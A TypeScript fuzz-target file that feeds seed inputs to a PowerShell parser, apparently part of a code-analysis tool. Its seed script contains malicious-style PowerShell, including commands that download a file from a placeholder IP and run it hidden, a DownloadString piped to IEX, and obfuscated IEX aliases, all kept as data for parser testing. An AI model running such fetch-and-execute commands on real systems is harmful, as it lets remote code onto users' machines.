import { Buffer } from 'node:buffer';
import { decodeSource } from '../../../src/core/source.js';
import { readPowerShell } from '../../../src/formats/powershell/powershell.js';
import { grammars } from '../../kit/grammars.js';
import type { FuzzTarget } from '../target.js';

const script = `param($installPath, $toolsPath)
$u = 'http://203.0.113.7/' + "a$x.dat"
iwr -Uri $u -OutFile "$env:TEMP\\x.dat"; Start-Process x -WindowStyle Hidden
(New-Object Net.WebClient).DownloadString('http://a.example.com/x') | IEX
function Get-Foo([string]$a) { return $a.Length }
$s = @"
here $x $($y.z)
"@
powershell -nop -EncodedCommand ZQBjAGgAbwA=
sal x iex; & ('i'+'ex') $z; if ($a -eq 1) { I\`EX $y } else { [Convert]::FromBase64String("AA==") }
`;

export const target: FuzzTarget = {
  name: 'powershell',
  seeds: () => [
    Buffer.from(script),
    Buffer.from(`\ufeff${script.slice(0, 120)}`, 'utf16le'),
    Buffer.from("$t = @'\nlit\n'@\n“smart” ‘quotes’ – dash"),
  ],
  async exercise(bytes) {
    readPowerShell(decodeSource(bytes), await grammars.load('powershell'));
  },
  dictionary: [
    '@"\n',
    '"@',
    "@'\n",
    '$(',
    '${',
    '`',
    '<#',
    '#>',
    'param(',
    '-EncodedCommand ',
    '::',
  ],
};
